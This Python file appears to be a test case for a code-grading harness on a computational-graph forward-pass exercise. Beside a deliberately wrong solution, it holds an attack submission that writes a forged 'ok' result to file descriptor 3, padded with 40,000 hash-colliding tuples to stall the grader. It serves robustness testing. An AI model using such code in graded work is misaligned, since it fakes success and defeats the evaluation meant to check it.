"""A dict of 40 000 tuples of -1 and -2, which have one hash

Reading it takes the grader a minute and more, if it reads it.
"""

UNIT, EXERCISE = "01-computational-graph", "forward-pass"

WRONG = """
def forward_pass(graph, inputs):
    values = dict(inputs)
    for name, (op, (a, b)) in graph.items():  # the order of the entries
        values[name] = values[a] + values[b]  # whatever the op
    return values
"""

ATTACK = """
import itertools
import os
import struct


def forward_pass(graph, inputs):
    keys = itertools.islice(itertools.product((-1, -2), repeat=16), 40_000)
    pairs = ",".join(f'[["t",{list(k)}],0]'.replace(" ", "") for k in keys)
    header = f'[[],["t",["ok",["d",[{pairs}]]]]]'.encode()
    os.write(3, struct.pack("!II", len(header), 0) + header)
"""

HARMS = "there is no wire"
